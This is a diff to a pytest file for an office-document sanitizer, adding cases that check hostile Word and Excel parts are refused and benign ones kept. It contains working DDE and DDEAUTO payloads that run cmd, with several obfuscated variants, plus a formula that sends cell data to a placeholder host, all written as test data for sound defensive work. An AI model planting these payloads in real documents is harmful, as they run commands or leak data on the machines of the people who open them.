@@ -77,6 +77,16 @@ def _packed(parts: Mapping[str, bytes]) -> bytes:
     return written.getvalue()
 
 
+def _spoilt(method: int) -> bytes:
+    """Kinds pressed by a method that no office program uses, and damaged besides."""
+    written = io.BytesIO()
+    with zipfile.ZipFile(written, "w", method) as packed:
+        packed.writestr("[Content_Types].xml", _kinds())
+    content = bytearray(written.getvalue())
+    content[58:61] = b"\xff\xff\xff"
+    return bytes(content)
+
+
 def _unpacked(content: bytes) -> dict[str, bytes]:
     with zipfile.ZipFile(io.BytesIO(content)) as packed:
         return {each: packed.read(each) for each in packed.namelist()}
@@ -139,6 +149,20 @@ _FIELD: Final = (
 )
 
 
+def _instruction(text: str) -> str:
+    """A field of Word's."""
+    mark = '<w:fldChar w:fldCharType="{}"/>'
+    return f"{mark.format('begin')}<w:instrText>{text}</w:instrText>{mark.format('end')}"
+
+
+def _word(inside: str) -> dict[str, bytes]:
+    return {"word/document.xml": f'<w:document xmlns:w="{_W}" xmlns:x="{_W}">{inside}</w:document>'.encode()}
+
+
+def _formula(text: str) -> dict[str, bytes]:
+    return {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{text}</f></c></worksheet>".encode()}
+
+
 @pytest.mark.parametrize(
     "more",
     [
@@ -154,12 +178,41 @@ _FIELD: Final = (
         {"word/document.xml": _FIELD.format("DDEAUTO c:\\\\windows\\\\cmd.exe", "").encode()},
         {"word/document.xml": _FIELD.format(" INCLUDE", "PICTURE http://mata-mata.example/x").encode()},
         {"word/_rels/document.xml.rels": _links((f"{_OFFICE}/oleObject", "x.doc", "External"))},
+        _word("<x:instrText>DDEAUTO cmd</x:instrText>"),
+        _word("<w:instrText>&#68;DEAUTO cmd</w:instrText>"),
+        _word("<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>"),
+        _word("<w:fldSimple w:instr='DDEAUTO cmd'/>"),
+        _word(_instruction("</w:instrText>" + _instruction('QUOTE "DDE"') + "<w:instrText> cmd")),
+        _word("<x:mailMerge><x:query x:val='SELECT'/></x:mailMerge>"),
+        _formula("_xlfn.WEBSERVICE(&quot;http://mata-mata.example/&quot;&amp;A1)"),
+        _formula("cmd|'/c calc'!A0"),
+        {"word/drawing.vml": _word(_instruction("DDE cmd"))["word/document.xml"]},
     ],
-    ids=lambda more: next(iter(more)),
+    ids=str,
 )
 def test_what_carries_more_than_is_read_is_refused(more: dict[str, bytes]) -> None:
     """Programs, other files, and what is fetched or run when it is opened."""
     assert "file_carries_more" == refused(_packed({**_parts(), **more}))
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        _word(_instruction('HYPERLINK "https://cilacapkab.go.id/link/import"') + _instruction(" PAGE ")),
+        {"word/settings.xml": f'<w:x xmlns:w="{_W}"><w:mailMerge><w:query w:val="Siti"/></w:mailMerge></w:x>'.encode()},
+        _formula("IF('Jalan|Desa'!A1=&quot;a|b&quot;,SUM(A1:A9),HYPERLINK(&quot;https://cilacapkab.go.id&quot;))"),
+        {"word/fonts/Lato-regular.ttf": b"\x00\x01\x00\x00" + bytes(60)},
+        {"xl/drawings/vmlDrawing1.vml": b"<xml><div>Baris<br>Baris</div></xml>"},
+        {"xl/pivotCache/pivotCacheDefinition1.xml": b'<pivotCacheDefinition refreshedBy="Siti Rahayu"/>'},
+    ],
+    ids=str,
+)
+def test_what_office_programs_write_is_taken(more: dict[str, bytes]) -> None:
+    """Links that are followed on purpose, letters to many, Google's fonts, a remark's lines."""
+    kept = _unpacked(cleaned(_packed({**_parts(), **more})).content)
+
+    assert {*more} <= {*kept}
+    assert [] == [name for name, part in kept.items() if b"Siti" in part]
 
 
 @pytest.mark.parametrize(
@@ -187,10 +240,23 @@ def test_what_no_office_program_writes_is_refused(more: dict[str, bytes]) -> Non
         _packed(_parts("presentationml.presentation.main+xml")),
         _packed({"word/document.xml": b"<x/>"}),
         _packed({"[Content_Types].xml": b"<x"}),
+        _spoilt(zipfile.ZIP_BZIP2),
+        _spoilt(zipfile.ZIP_LZMA),
+        _packed({**_parts(), **{f"word/x{number}.xml": b"" for number in range(MOST_PARTS)}}),
         _packed({"[Content_Types].xml": b"<!DOCTYPE x>" + _kinds()}),
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
     ],
-    ids=["macros", "slides", "no kinds", "kinds cut off", "kinds with a DTD", "locked, or of before 2007"],
+    ids=[
+        "macros",
+        "slides",
+        "no kinds",
+        "kinds cut off",
+        "BZIP2",
+        "LZMA",
+        "many parts",
+        "kinds with a DTD",
+        "locked, or of before 2007",
+    ],
 )
 def test_what_is_no_such_document_is_of_no_kind_that_is_taken(content: bytes) -> None:
     """Whatever it is called."""
@@ -198,15 +264,12 @@ def test_what_is_no_such_document_is_of_no_kind_that_is_taken(content: bytes) ->
 
 
 def test_what_unfolds_to_too_much_is_refused() -> None:
-    """By its size, by the number of its parts, and where it lies about either."""
+    """By its size, and where it lies about that."""
     giant = _packed({**_parts(), "word/styles.xml": b"<x>" + bytes(30_000_000)})
-    many = _packed({**_parts(), **{f"word/x{number}.xml": b"" for number in range(MOST_PARTS)}})
     told = len(b"<x>" + bytes(30_000_000)).to_bytes(4, "little")
     lying = giant.replace(told, (9).to_bytes(4, "little"))
 
-    assert ["document_too_large", "document_too_large", "file_damaged"] == [
-        refused(each) for each in (giant, many, lying)
-    ]
+    assert ["document_too_large", "file_damaged"] == [refused(each) for each in (giant, lying)]
 
 
 def test_a_locked_part_is_told_as_locked() -> None:
